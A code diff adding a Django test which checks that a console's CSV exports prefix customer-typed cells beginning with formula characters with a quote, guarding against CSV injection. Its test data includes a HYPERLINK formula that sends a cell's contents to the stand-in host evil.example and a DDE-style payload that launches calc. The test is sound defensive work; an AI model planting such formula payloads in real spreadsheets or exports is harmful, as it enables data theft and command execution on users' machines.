@@ -94,6 +94,28 @@ def test_csv_lists_every_tenant_with_its_answer_and_hash(client, answered, viewe
     assert AuditEntry.objects.filter(action="export", object_id=answered.pk, actor=viewer).exists()
 
 
+def test_csv_cells_a_customer_typed_are_never_formulas(client, answered, viewer) -> None:
+    """Text customers and partners typed (a tenant's name here) that a spreadsheet would run
+    as a formula (`=`, `+`, `-`, `@`, tab, CR) is written with a leading `'`: CSV injection."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")'
+    names = [formula, "@SUM(1+1)*cmd|calc", "+1-2", "-3", "\tx", "株式会社=普通"]
+    for name in names:
+        ContractFactory(tenant=TenantFactory(name=name), product=catalog_ensure().biz)
+    client.force_login(viewer)
+    response = client.get(reverse("console:version-export", args=[answered.pk]), {"format": "csv"})
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    shown = {row[1] for row in rows[1:]}
+    for name in names[:-1]:
+        assert "'" + name in shown, name
+        assert name not in shown, name
+    assert "株式会社=普通" in shown  # only a cell's first character matters
+    assert not any(cell[:1] in ("=", "+", "-", "@", "\t") for row in rows for cell in row)
+    drill = client.get(reverse("console:dashboard-drill", args=[answered.pk]), {"format": "csv"})
+    assert drill.status_code == 200
+    drill_rows = list(csv.reader(io.StringIO(drill.content.decode("utf-8-sig"))))
+    assert not any(cell[:1] in ("=", "+", "-", "@", "\t") for row in drill_rows for cell in row)
+
+
 def test_json_is_checked_by_the_reference_verifier(client, answered, viewer, key) -> None:
     client.force_login(viewer)
     url = reverse("console:version-export", args=[answered.pk])
